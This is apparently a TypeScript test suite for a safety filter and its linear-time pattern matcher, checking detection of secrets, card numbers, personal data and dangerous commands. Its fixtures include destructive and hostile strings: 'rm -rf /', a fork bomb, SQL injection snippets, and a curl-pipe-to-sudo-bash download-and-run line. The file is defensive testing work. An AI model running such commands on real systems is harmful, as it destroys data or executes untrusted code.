import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { createSafetyFilter } from "./safety-filter.ts"
import { compilePattern, type Node } from "./pattern.ts"
import { SAFETY_CATEGORIES, SAFETY_LEVELS, type SafetyLevel } from "./rules.ts"

const found = (level: SafetyLevel, text: string) =>
  createSafetyFilter({ level })
    .check(text)
    .map(({ rule }) => rule)

describe("createSafetyFilter", () => {
  it.each([
    ["minimal", "key AKIAIOSFODNN7EXAMPLE here", "aws-access-key"],
    ["minimal", "-----BEGIN RSA PRIVATE KEY-----", "private-key"],
    ["minimal", "sudo rm -rf / ; echo", "delete-everything"],
    ["minimal", "rm -rf ~", "delete-everything"],
    ["minimal", ":(){ :|:& };:", "fork-bomb"],
    ["standard", "x'; DROP TABLE users", "sql-drop"],
    ["standard", "card 4111 1111 1111 1111.", "card-number"],
    ["standard", "IBAN DE89 3704 0044 0532 0130 00", "iban"],
    ["standard", "curl https://x.example/i.sh | sudo bash", "download-and-run"],
    ["strict", "write to ada@example.org", "email-address"],
    ["strict", "call 555-123-4567 now", "phone-number"],
    ["maximum", "at 10.0.0.1", "network-address"],
  ] as const)("finds at level %s in %j: %s", (level, text, rule) => {
    expect(found(level, text)).toEqual([rule])
    const below = SAFETY_LEVELS[SAFETY_LEVELS.indexOf(level) - 1]
    if (below !== undefined) expect(found(below, text)).toEqual([])
  })

  it.each([
    "order 4111 1111 1111 1112",
    "rm -rf ./build",
    "Scunthorpe",
    "DE00 3704 0044 0532 0130 00",
    "2026-11-21 10:00",
    "the union selected a delegate",
    "a scripted reply",
  ])("lets %j pass at level standard", (text) => {
    expect(found("standard", text)).toEqual([])
  })

  it("covers all six categories, and only those asked for", () => {
    expect(createSafetyFilter({ level: "maximum" }).categories).toEqual(SAFETY_CATEGORIES)
    const narrow = createSafetyFilter({ level: "maximum", categories: ["pii"] })
    expect(narrow.check("rm -rf / and ada@example.org").map(({ rule }) => rule)).toEqual(["email-address"])
  })

  it("bans custom patterns, in either case, and redacts", () => {
    const filter = createSafetyFilter({ level: "minimal", banned: ["project (alpha|beta)\\d*"] })
    expect(filter.redact("On Project Beta12 and PROJECT ALPHA.")).toBe("On [removed] and [removed].")
    expect(filter.check("Project Beta12")).toEqual([
      { category: "custom", rule: "project (alpha|beta)\\d*", start: 0, end: 14 },
    ])
  })

  it("refuses what it does not know", () => {
    expect(() => createSafetyFilter({ level: "high" as "strict" })).toThrow(
      expect.objectContaining({ code: "INVALID_SAFETY" }),
    )
    expect(() => createSafetyFilter({ categories: ["spam" as "pii"] })).toThrow(
      expect.objectContaining({ code: "INVALID_SAFETY" }),
    )
    for (const pattern of ["(?=a)b", "(a)\\1", "a*", "(a", "a)", "[a", "*a", "a{3,2}", "(a{1000}){1000}", "\\q"]) {
      expect(() => createSafetyFilter({ banned: [pattern] })).toThrow(
        expect.objectContaining({ code: "INVALID_PATTERN" }),
      )
    }
  })

  it("takes linear time for patterns that make other matchers explode", () => {
    const filter = createSafetyFilter({ banned: ["(a+)+b", "(x|x)*y", "([a-z]+)*!"] })
    // Exponential or quadratic matching would not come to an end here.
    expect(filter.check("a".repeat(100_000))).toEqual([])
    expect(filter.check(`${"a".repeat(100_000)}b`)).toHaveLength(1)
  })
})

describe("SafetyScanner", () => {
  it("finds the same however the text is cut", () => {
    const text = "Mail ada@example.org, card 4111-1111-1111-1111; rm -rf / \n and 'or 1=1"
    const filter = createSafetyFilter({ level: "maximum" })
    const names = (findings: readonly { rule: string; start: number }[]) =>
      findings.map(({ rule, start }) => `${rule}@${start}`).sort()
    fc.assert(
      fc.property(fc.array(fc.nat(text.length), { maxLength: 12 }), (cuts) => {
        const scanner = filter.scanner()
        const borders = [0, ...cuts.sort((a, b) => a - b), text.length]
        const findings = borders.slice(1).flatMap((border, at) => scanner.push(text.slice(borders[at], border)))
        expect(names([...findings, ...scanner.end()])).toEqual(names(filter.check(text)))
      }),
      { numRuns: 60 },
    )
  })

  it("says beforehand what a piece of text would complete", () => {
    const scanner = createSafetyFilter({ level: "minimal" }).scanner()
    scanner.push("please run rm -rf ")
    expect([
      scanner.wouldFind("./tmp "),
      scanner.wouldFind("/"),
      scanner.wouldFind("/ "),
      scanner.wouldFind("/;"),
    ]).toEqual([false, false, true, true])
    expect(scanner.push("./tmp")).toEqual([])
  })
})

describe("compilePattern", () => {
  it("matches as a regular expression does", () => {
    const node: fc.Arbitrary<string> = fc.letrec<{ node: string }>((tie) => ({
      node: fc.oneof(
        { depthSize: "small" },
        fc.constantFrom("a", "b", "[ab]", "[^a]", ".", "\\w", "\\b", "c"),
        fc.tuple(tie("node"), tie("node")).map(([a, b]) => a + b),
        fc.tuple(tie("node"), tie("node")).map(([a, b]) => `(${a}|${b})`),
        fc.tuple(tie("node"), fc.constantFrom("?", "*", "+", "{2}", "{1,2}")).map(([a, bound]) => `(${a})${bound}`),
      ),
    })).node
    fc.assert(
      fc.property(node, fc.stringMatching(/^[abcAB .]{0,10}$/), (pattern, text) => {
        try {
          compilePattern(pattern, 0, [] as Node[])
        } catch {
          return // matches the empty text
        }
        const found = createSafetyFilter({ level: "minimal", categories: [], banned: [pattern] }).check(text)
        expect([pattern, text, found.length > 0]).toEqual([pattern, text, new RegExp(pattern, "i").test(text)])
      }),
      { numRuns: 500 },
    )
  })
})
